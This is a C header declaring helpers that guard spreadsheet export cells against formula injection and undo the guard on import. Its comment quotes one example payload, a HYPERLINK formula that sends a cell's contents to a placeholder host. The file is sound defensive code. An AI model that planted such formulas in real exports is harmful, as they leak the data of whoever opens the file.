/* cell_guard — keep spreadsheet cells from being read as formulas.
 *
 * Excel and WPS evaluate a CSV or XLSX text cell that begins with '=', '+',
 * '-', '@', a tab or a carriage return (CWE-1236): a hostname such as
 * =HYPERLINK("http://x/?"&A1) would run when a department opens its export.
 * Writers of text cells call cell_needs_guard() and, when it says so, put an
 * apostrophe before the value, which both programs show as text and never
 * evaluate. Readers of our own exports (tzctl system import) call
 * cell_unguard() so that a round trip gives back the value it started with.
 * Numbers we write ourselves (a negative count) are not text cells and are
 * not guarded. */
#ifndef TZ_CELL_GUARD_H
#define TZ_CELL_GUARD_H

/* 1 when s would be taken for a formula, or when it starts with
 * apostrophes before such a character ("'=1"): guarding those too makes
 * the guard reversible, so that every value survives export and import. */
int cell_needs_guard(const char *s);

/* s without the apostrophe cell_needs_guard made a writer add ("'=1" gives
 * "=1", "''=1" gives "'=1"); any other s unchanged. Points into s.
 * cell_unguard(guarded(v)) == v for every v. */
const char *cell_unguard(const char *s);

#endif
